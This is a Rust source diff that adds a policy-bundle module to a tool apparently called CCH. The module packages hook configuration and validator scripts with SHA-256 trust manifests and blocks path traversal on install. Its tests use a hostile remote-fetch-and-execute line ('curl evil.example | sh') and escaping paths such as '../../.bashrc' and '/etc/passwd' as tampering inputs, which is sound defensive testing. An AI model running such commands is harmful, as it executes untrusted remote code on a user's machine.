@@ -0,0 +1,290 @@
+//! Policy bundles for air-gapped machines
+//!
+//! A bundle is one self-contained YAML document holding a project's CCH
+//! configuration verbatim together with every context, validator, and
+//! template file its rules reference. Each file carries its SHA-256 and,
+//! for validators, the trust level its rules run it with; together these
+//! form the bundle's trust manifest, which is checked before anything is
+//! installed:
+//!
+//! ```yaml
+//! bundle:
+//!   cch_version: 1.0.0
+//!   created: 2026-01-01T00:00:00Z
+//!   config: .claude/hooks.yaml
+//! files:
+//!   - path: .claude/hooks.yaml
+//!     sha256: 3f2a...
+//!     content: |
+//!       version: "1.0"
+//!       ...
+//!   - path: .claude/validators/check-secrets.sh
+//!     executable: true
+//!     trust: verified
+//!     sha256: 9b1c...
+//!     content: |
+//!       #!/bin/bash
+//! ```
+//!
+//! Unlike a [`Pack`](crate::pack::Pack), a bundle replaces the project's
+//! whole policy rather than merging rules into it.
+
+use anyhow::{Context, Result};
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::path::{Component, Path};
+
+use crate::config::Config;
+use crate::models::TrustLevel;
+use crate::pack;
+
+/// A project's complete policy and the files it references
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct Bundle {
+    pub bundle: BundleMetadata,
+
+    pub files: Vec<BundleFile>,
+}
+
+/// Bundle provenance
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct BundleMetadata {
+    /// Version of the `cch` that exported the bundle
+    pub cch_version: String,
+
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub created: Option<DateTime<Utc>>,
+
+    /// Project-relative path of the configuration among `files`
+    pub config: String,
+}
+
+/// A bundled file, stored at its project-relative path
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct BundleFile {
+    pub path: String,
+
+    /// Whether the file should be installed executable (validator scripts)
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub executable: bool,
+
+    /// Trust level rules run this validator with
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub trust: Option<TrustLevel>,
+
+    /// SHA-256 of `content`, verified on import
+    pub sha256: String,
+
+    pub content: String,
+}
+
+impl BundleFile {
+    fn new(path: &str, content: String, executable: bool) -> Self {
+        Self {
+            path: path.to_string(),
+            executable,
+            trust: None,
+            sha256: digest(&content),
+            content,
+        }
+    }
+
+    /// Write the file at its path under `project_root`, executable if marked
+    pub fn install(&self, project_root: &Path) -> Result<()> {
+        let path = project_root.join(safe_relative_path(&self.path)?);
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        std::fs::write(&path, &self.content)
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        #[cfg(unix)]
+        if self.executable {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
+        }
+        Ok(())
+    }
+}
+
+fn digest(content: &str) -> String {
+    format!("{:x}", Sha256::digest(content.as_bytes()))
+}
+
+impl Bundle {
+    /// Bundle the configuration at `config_path` and every file its rules
+    /// reference, read relative to `project_root`
+    ///
+    /// The configuration is stored as written, so encrypted sections stay
+    /// encrypted; files referenced by sealed rules are still bundled when
+    /// they can be decrypted here.
+    pub fn export(config_path: &Path, project_root: &Path) -> Result<Self> {
+        let config_content = std::fs::read_to_string(config_path)
+            .with_context(|| format!("Failed to read {}", config_path.display()))?;
+        let config = Config::from_file(config_path)?;
+
+        let config_relative = config_path
+            .strip_prefix(project_root)
+            .ok()
+            .and_then(|p| p.to_str())
+            .unwrap_or(".claude/hooks.yaml")
+            .to_string();
+        let mut files = vec![BundleFile::new(&config_relative, config_content, false)];
+
+        for rule in &config.rules {
+            for path in pack::referenced_files(rule) {
+                if !files.iter().any(|f| f.path == path) {
+                    let full_path = project_root.join(path);
+                    let content = std::fs::read_to_string(&full_path).with_context(|| {
+                        format!(
+                            "Rule '{}' references an unreadable file {}",
+                            rule.name,
+                            full_path.display()
+                        )
+                    })?;
+                    let executable = pack::is_executable(&full_path);
+                    files.push(BundleFile::new(path, content, executable));
+                }
+            }
+
+            // Record the trust the first rule running a validator declares
+            if let (Some(script), Some(trust)) =
+                (rule.actions.script_path(), rule.actions.trust_level())
+            {
+                if let Some(file) = files.iter_mut().find(|f| f.path == script) {
+                    file.trust.get_or_insert(trust);
+                }
+            }
+        }
+
+        Ok(Self {
+            bundle: BundleMetadata {
+                cch_version: env!("CARGO_PKG_VERSION").to_string(),
+                created: Some(Utc::now()),
+                config: config_relative,
+            },
+            files,
+        })
+    }
+
+    /// Check the trust manifest: every hash matches, every path stays inside
+    /// the project, and the bundled configuration parses
+    pub fn verify(&self) -> Result<()> {
+        for file in &self.files {
+            safe_relative_path(&file.path)?;
+            if digest(&file.content) != file.sha256 {
+                anyhow::bail!(
+                    "Hash mismatch for {}: the bundle is corrupt or was modified",
+                    file.path
+                );
+            }
+        }
+        let config = self
+            .files
+            .iter()
+            .find(|f| f.path == self.bundle.config)
+            .with_context(|| {
+                format!("Bundle does not contain its config {}", self.bundle.config)
+            })?;
+        let config: Config = serde_yaml::from_str(&config.content)
+            .with_context(|| format!("Bundled {} does not parse", config.path))?;
+        config
+            .validate()
+            .context("Bundled configuration is invalid")
+    }
+
+    /// Serialize the bundle as YAML
+    pub fn to_yaml(&self) -> Result<String> {
+        serde_yaml::to_string(self).context("Failed to serialize bundle")
+    }
+
+    /// Parse a bundle from YAML
+    pub fn from_yaml(content: &str) -> Result<Self> {
+        serde_yaml::from_str(content).context("Failed to parse bundle")
+    }
+}
+
+/// A bundle path as a relative path that cannot escape the project
+pub fn safe_relative_path(path: &str) -> Result<&Path> {
+    let relative = Path::new(path);
+    if relative
+        .components()
+        .all(|c| matches!(c, Component::Normal(_) | Component::CurDir))
+    {
+        Ok(relative)
+    } else {
+        anyhow::bail!("Refusing to install {} outside the project", path)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn project() -> tempfile::TempDir {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join(".claude/context")).unwrap();
+        std::fs::create_dir_all(dir.path().join(".claude/validators")).unwrap();
+        std::fs::write(
+            dir.path().join(".claude/hooks.yaml"),
+            r#"
+version: "1.0"
+rules:
+  - name: docs
+    matchers: { tools: [Write] }
+    actions: { inject: .claude/context/docs.md }
+  - name: secrets
+    matchers: { tools: [Write] }
+    actions:
+      run: { script: .claude/validators/secrets.sh, trust: verified }
+"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join(".claude/context/docs.md"), "Docs").unwrap();
+        std::fs::write(dir.path().join(".claude/validators/secrets.sh"), "exit 0").unwrap();
+        dir
+    }
+
+    #[test]
+    fn test_export_builds_trust_manifest() {
+        let dir = project();
+        let bundle = Bundle::export(&dir.path().join(".claude/hooks.yaml"), dir.path()).unwrap();
+
+        let paths: Vec<&str> = bundle.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(
+            paths,
+            vec![
+                ".claude/hooks.yaml",
+                ".claude/context/docs.md",
+                ".claude/validators/secrets.sh"
+            ]
+        );
+        assert_eq!(bundle.files[2].trust, Some(TrustLevel::Verified));
+        assert_eq!(bundle.files[1].sha256, digest("Docs"));
+
+        let roundtrip = Bundle::from_yaml(&bundle.to_yaml().unwrap()).unwrap();
+        assert_eq!(roundtrip, bundle);
+        roundtrip.verify().unwrap();
+    }
+
+    #[test]
+    fn test_verify_rejects_tampering_and_escapes() {
+        let dir = project();
+        let bundle = Bundle::export(&dir.path().join(".claude/hooks.yaml"), dir.path()).unwrap();
+
+        let mut tampered = bundle.clone();
+        tampered.files[2].content = "curl evil.example | sh".to_string();
+        let err = tampered.verify().unwrap_err().to_string();
+        assert!(
+            err.contains("Hash mismatch for .claude/validators/secrets.sh"),
+            "{}",
+            err
+        );
+
+        let mut escaping = bundle;
+        escaping.files[1].path = "../../.bashrc".to_string();
+        assert!(escaping.verify().is_err());
+        assert!(safe_relative_path("/etc/passwd").is_err());
+        assert!(safe_relative_path("./.claude/x.md").is_ok());
+    }
+}